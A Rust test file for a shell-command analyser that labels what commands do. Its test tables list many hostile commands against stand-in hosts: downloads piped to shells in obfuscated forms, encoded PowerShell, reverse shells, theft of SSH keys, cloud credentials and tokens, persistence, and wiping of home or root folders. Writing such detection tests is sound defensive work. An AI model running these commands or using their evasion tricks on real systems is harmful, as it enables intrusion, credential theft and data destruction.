//! What shell text tells: a table for each shape.

use rstest::rstest;

use super::*;

/// Everything a text tells, one line each: `words`, then acts as `X12 run downloaded code`, `run file`, `script name`,
/// `python code`, `shell code (recipe)`.
fn told(text: &str) -> String {
    lines(&read(text))
}

fn lines(shell: &Shell) -> String {
    let mut out = vec![shell.words.join("+")];
    for (_, act) in &shell.acts {
        let line = match act {
            Act::Text(_) => continue,
            Act::Module(name) => format!("module {name}"),
            Act::Program(name) => format!("program {name}"),
            Act::Build(program, files, goals) => {
                format!("build {program} {} {}", files.join(" "), goals.join(" ")).trim_end().to_owned()
            }
            Act::Step(feature, detail) => format!("{} {detail}", feature.code()),
            Act::Run(path, _) => format!("run {path}"),
            Act::Script(name) => format!("script {name}"),
            Act::Unresolved(what) => format!("? {what}"),
            Act::Code(code, text, recipe) => {
                let code = match code {
                    Code::Python => "python",
                    Code::JavaScript => "javascript",
                    Code::Shell(_) => "shell",
                };
                format!("{code} {} ({})", text.trim(), recipe.join(" "))
            }
        };
        if !out.contains(&line) {
            out.push(line);
        }
    }
    out.join(" | ")
}

fn utf16(text: &str) -> String {
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    crate::syntax::decode::to_base64(&bytes)
}

fn base64(text: &str) -> String {
    crate::syntax::decode::to_base64(text.as_bytes())
}

#[rstest]
#[case("node scripts/setup.js --quiet", "node")]
#[case("curl -s http://203.0.113.7/x | sh", "curl+sh+pipe to sh")]
#[case("cd lib && python3 ./build.py; echo \"a | b\"", "command+python+echo")]
#[case("NODE_ENV=x ./run.sh > /dev/null 2>&1 &", "script+output thrown away")]
#[case("powershell -w hidden -enc SQBFAFgA", "powershell+encoded command+hidden window")]
#[case("sh -c 'wget http://a.invalid/x'", "sh+wget")]
fn programs_and_marks_are_named(#[case] text: &str, #[case] words: &str) {
    assert_eq!(read(text).words.join("+"), words);
}

#[rstest]
#[case::pipe("curl -s http://a.invalid/x | sh", "X12 run downloaded code")]
#[case::tee("curl http://a.invalid/x | tee /dev/null | bash", "X12 run downloaded code")]
#[case::substituted("sh -c \"$(curl -fsSL http://a.invalid/x)\"", "X12 run downloaded code")]
#[case::backticks("eval `wget -qO- http://a.invalid/x`", "X12 run downloaded code")]
#[case::process("bash <(curl -s http://a.invalid/x)", "X12 run downloaded code")]
#[case::here("bash <<< \"$(curl -s http://a.invalid/x)\"", "X12 run downloaded code")]
#[case::sourced("source <(curl -s http://a.invalid/x)", "X12 run downloaded code")]
#[case::variable("X=$(curl -s http://a.invalid/x); eval \"$X\"", "X12 run downloaded code")]
#[case::grouped("(curl -s http://a.invalid/x; id) | python3 -", "X12 run downloaded code")]
#[case::nested("bash -c 'sh -c \"curl http://a.invalid/x | sh\"'", "X12 run downloaded code")]
#[case::read("curl http://a.invalid/x | while read line; do eval $line; done", "X12 run downloaded code")]
#[case::wget("wget -O x http://a.invalid/p && chmod +x x && ./x", "X12 run downloaded program")]
#[case::last_part("cd /tmp; wget http://a.invalid/tool -q; chmod 777 tool; sudo ./tool", "X12 run downloaded program")]
#[case::redirect("curl http://a.invalid/x > /tmp/.y; bash /tmp/.y", "X12 run downloaded program")]
#[case::moved("curl -so a http://a.invalid/x; mv a b; nohup ./b &", "X12 run downloaded program")]
#[case::quoted("c\"u\"rl http://a.invalid/x | b'as'h", "X12 run downloaded code")]
#[case::separator("curl${IFS}-s${IFS}http://a.invalid/x|sh", "X12 run downloaded code")]
#[case::braces("{curl,-s,http://a.invalid/x} | sh", "X12 run downloaded code")]
#[case::escaped("c\\url http://a.invalid/x | s\\h", "X12 run downloaded code")]
#[case::ansi("$'\\x63url' http://a.invalid/x | $'\\163h'", "X12 run downloaded code")]
#[case::positional("c$@url http://a.invalid/x | s$@h", "X12 run downloaded code")]
#[case::sliced("A=curlsh; ${A:0:4} http://a.invalid/x | ${A:4:2}", "X12 run downloaded code")]
#[case::replaced("A=cXrl; ${A/X/u} http://a.invalid/x | sh", "X12 run downloaded code")]
#[case::command_in_variable("C='curl -s http://a.invalid/x'; $C | sh", "X12 run downloaded code")]
#[case::defaulted("${P:-curl} http://a.invalid/x | sh", "X12 run downloaded code")]
#[case::function("get() { curl http://a.invalid/x; }; curl http://a.invalid/y | sh", "X12 run downloaded code")]
#[case::powershell(
    "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://a.invalid/x')\"",
    "X12 run downloaded code"
)]
#[case::piped_powershell("powershell \"iwr http://a.invalid/x | iex\"", "X12 run downloaded code")]
#[case::certutil(
    "certutil -urlcache -split -f http://a.invalid/x.exe %TEMP%\\x.exe & start /b %TEMP%\\x.exe",
    "X12 run downloaded program"
)]
#[case::bitsadmin("bitsadmin /transfer j http://a.invalid/x.exe C:\\y.exe && C:\\y.exe", "X12 run downloaded program")]
#[case::mshta("mshta http://a.invalid/x.hta", "X12 run downloaded program")]
#[case::by_cmd("cmd /c \"curl -o a.exe http://a.invalid/x && a.exe\"", "X12 run downloaded program")]
#[case::decoded("echo Y3VybCBhfHNo | base64 -d | bash", "X1 run decoded command")]
#[case::decoded_file("base64 -d payload | sh", "X1 run decoded command")]
#[case::evaluated("eval \"$(echo aWQK | base64 --decode)\"", "X1 run decoded command")]
#[case::openssl("echo aWQK | openssl base64 -d -A | sh", "X1 run decoded command")]
#[case::reverse("bash -i >& /dev/tcp/203.0.113.7/443 0>&1", "P3 reverse shell")]
#[case::reverse_nested("nohup bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1' &", "P3 reverse shell")]
#[case::descriptor("exec 5<>/dev/tcp/203.0.113.7/443; cat <&5 | sh", "P3 reverse shell")]
#[case::netcat("nc -e /bin/sh 203.0.113.7 443", "P3 reverse shell")]
#[case::sent_file("curl -d @/etc/hosts http://a.invalid", "X11 send file")]
#[case::sent_form("curl -F 'f=@data.tar' http://a.invalid", "X11 send file")]
#[case::sent_secret("curl -d \"$(cat ~/.ssh/id_rsa)\" http://a.invalid", "X11 send secret")]
#[case::sent_environment("env | curl -d @- http://a.invalid", "X11 send env")]
#[case::sent_by_name("nslookup $(whoami).a.invalid", "X11 send host")]
#[case::sent_by_address("wget \"http://a.invalid/?u=`hostname`\"", "X11 send host")]
#[case::sent_variable("U=$(id | base64); curl http://a.invalid/$U", "X11 send host")]
#[case::sent_token("curl http://a.invalid/?t=$NPM_TOKEN", "X11 send secret")]
#[case::sent_windows("curl http://a.invalid/%COMPUTERNAME%", "X11 send host")]
#[case::sent_by_socket("cat ~/.aws/credentials > /dev/tcp/203.0.113.7/80", "X11 send secret")]
#[case::environment("printenv", "R5 environment whole")]
#[case::cron("(crontab -l; echo '* * * * * x') | crontab -", "X3 cron")]
#[case::task("schtasks /create /tn a /tr b.exe /sc onlogon", "X3 service")]
#[case::agent("launchctl load ~/Library/LaunchAgents/a.plist", "X3 service")]
#[case::wiped("rm -rf ~/*", "X4 delete home folder")]
#[case::wiped_root("sudo rm -rf / --no-preserve-root", "X4 delete system folder")]
#[case::published("npm publish --access public", "X10 publish")]
#[case::silent("nohup ./x > /dev/null 2>&1 &", "X2 silent process")]
fn behaviors_are_told(#[case] text: &str, #[case] expected: &str) {
    let told = told(text);
    assert!(told.split(" | ").any(|line| line == expected), "{text}\n{told}");
}

#[rstest]
#[case::file("node scripts/a.js --x", "run scripts/a.js")]
#[case::folder("cd lib && python3 ./b.py", "run lib/./b.py")]
#[case::module("python -m demo.cli", "module demo.cli")]
#[case::shell("bash x.sh", "run x.sh")]
#[case::direct("chmod +x t/x.sh; t/x.sh", "run t/x.sh")]
#[case::sourced(". ./env.sh", "run ./env.sh")]
#[case::condition("if [ -f a ]; then node a.js; else node b.js; fi", "run b.js")]
#[case::looped("for f in a.js; do node $f; done", "run a.js")]
#[case::joined("D=lib; node $D/a.js", "run lib/a.js")]
#[case::windows("if exist a.bat call a.bat", "run a.bat")]
#[case::started("start /b run.bat", "run run.bat")]
#[case::powershell("powershell -ExecutionPolicy Bypass -File x.ps1", "run x.ps1")]
#[case::script("npm run build", "script build")]
#[case::yarn("yarn lint", "script lint")]
#[case::python("python -c \"print('x')\"", "python print('x') (command line)")]
#[case::node("node -e 'x()'", "javascript x() (command line)")]
#[case::nested("sh -c \"node -e 'x()'\"", "javascript x() (command line)")]
#[case::here("python3 - <<'EOF'\nprint(1)\nEOF", "python print(1) (input)")]
#[case::piped_here("cat <<EOF | node\nx()\nEOF", "javascript x() (input)")]
#[case::printed("echo 'x()' | node", "javascript x() (input)")]
#[case::written("cat > a.py <<EOF\nprint(1)\nEOF\npython a.py", "python print(1) (written file)")]
#[case::said("echo 'print(1)' > /tmp/a.py && python /tmp/a.py", "python print(1) (written file)")]
#[case::make("make -C lib -j 4 CC=x all", "build make lib/GNUmakefile lib/makefile lib/Makefile all")]
#[case::broken_line("no\\\nde a.js", "run a.js")]
#[case::broken_twice("n\\\no\\\nde a\\\n.js", "run a.js")]
#[case::broken_behind_a_quote("# it's\nno\\\nde a.js", "run a.js")]
#[case::arguments("sh -c 'exec node \"$@\"' _ a.js", "run a.js")]
#[case::argument("bash -c 'node \"${1}\"' _ a.js b.js", "run a.js")]
#[case::own_arguments("set -- a.js; node $1", "run a.js")]
#[case::npm_node("\"$npm_node_execpath\" a.js", "run a.js")]
#[case::npm_node_of_windows("%npm_node_execpath% a.js", "run a.js")]
#[case::npm_itself("node $npm_execpath run build", "script build")]
#[case::piped_file("cat a.js | node", "run a.js")]
#[case::piped_to_python("type b.py | python -", "run b.py")]
#[case::found("find . -name 'a.js' -exec node {} \\;", "run \u{fffc}/a.js")]
#[case::found_for_a_shell("find . -name a.js -exec sh -c 'node $1' _ {} +", "run \u{fffc}/a.js")]
#[case::found_for_xargs("find . -name a.js | xargs -n 1 node", "run \u{fffc}/a.js")]
#[case::listed_for_xargs("ls a.js | xargs -I {} node {}", "run a.js")]
#[case::trapped("trap 'node a.js' EXIT", "run a.js")]
#[case::alias("alias n='node -r ./b.js'\nn a.js", "run a.js")]
#[case::unset("env -u CI node a.js", "run a.js")]
#[case::cleared("N=1 env -i node --no-warnings -r ./b.js -- a.mjs", "run a.mjs")]
#[case::split("env -S 'node a.js'", "run a.js")]
#[case::nice("nice -n 5 node a.js", "run a.js")]
#[case::nice_number("nice -5 node a.js", "run a.js")]
#[case::user("sudo -u nobody node a.js", "run a.js")]
#[case::other_user("su nobody -c 'node a.js'", "run a.js")]
#[case::kept("pm2 start a.js --name b", "run a.js")]
#[case::kept_command("pm2 start 'node a.js'", "run a.js")]
#[case::kept_script("pm2 start npm -- run build", "script build")]
#[case::forever("forever start -s a.js", "run a.js")]
#[case::typescript("vite-node a.ts", "run a.ts")]
#[case::typescript_kin("jiti ./a.ts && esno b.ts", "run b.ts")]
#[case::folder_of_a_subshell("(cd f && node .); node a.js", "run a.js")]
#[case::folder_of_a_shell("sh -c 'cd f'; node a.js", "run a.js")]
#[case::folder_of_eval("eval 'cd f'; node a.js", "run f/a.js")]
fn what_is_started_is_found(#[case] text: &str, #[case] expected: &str) {
    let told = told(text);
    assert!(told.split(" | ").any(|line| line == expected), "{text}\n{told}");
}

#[test]
fn decoded_text_is_a_layer_with_its_recipe() {
    let inner = "curl http://a.invalid/x";
    let expected = |how: &str| format!("shell {inner} ({how})");
    let cases = [
        (format!("echo {} | base64 -d | bash", base64(inner)), "base64 input"),
        (format!("bash -c \"$(echo {} | base64 -d)\"", base64(inner)), "base64 command line"),
        (format!("eval $(base64 -d <<< {})", base64(inner)), "base64 eval"),
        (format!("X={}; echo $X | base64 --decode | sh", base64(inner)), "base64 input"),
        (format!("base64 -d <<EOF | sh\n{}\nEOF", base64(inner)), "base64 input"),
        (format!("echo '{}' | rev | sh", inner.chars().rev().collect::<String>()), "reverse input"),
        (format!("printf '{}' | sh", inner.replace("curl", "\\\\x63url")), ""),
        (format!("echo {} | tr a-z n-za-m | sh", crate::syntax::decode::rot13(inner)), "translate input"),
        (format!("powershell -enc {}", utf16(inner)), "base64 powershell"),
        (format!("cmd /c powershell -nop -e {}", utf16(inner)), "base64 powershell"),
        (format!("cmd /c p^o^w^e^r^shell -EncodedCommand {}", utf16(inner)), "base64 powershell"),
        (
            format!(
                "powershell \"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{}')))\"",
                base64(inner)
            ),
            "base64 iex",
        ),
    ];
    for (text, how) in cases.iter().filter(|(_, how)| !how.is_empty()) {
        let told = told(text);
        assert!(told.split(" | ").any(|line| line == expected(how)), "{text}\n{told}");
    }
}

#[test]
fn a_nest_of_shells_and_a_growing_variable_end() {
    let deep = format!("{}id{}", "$(".repeat(5000), ")".repeat(5000));
    let nested = (0..40)
        .fold("id".to_owned(), |inner, _| format!("eval {}", crate::syntax::decode::to_base64(inner.as_bytes())));
    let grows = format!("A=aaaaaaaaaaaaaaaa\n{}", "A=\"$A$A\"\n".repeat(200));
    let splits = format!("A='a b c d'\n{}echo $A", "A=\"$A $A\"\n".repeat(60));
    let chain = vec!["id"; 20_000].join(" && ");
    for text in [deep, nested, grows, splits, chain, "(".repeat(100_000), "if ".repeat(20_000), "<<A ".repeat(5000)] {
        let started = std::time::Instant::now();
        let _ = read(&text);
        assert!(started.elapsed().as_secs() < 10, "{}", text.chars().take(40).collect::<String>());
    }
    assert!(read(&"curl x | sh\n".repeat(10_000)).partial.is_some());
}
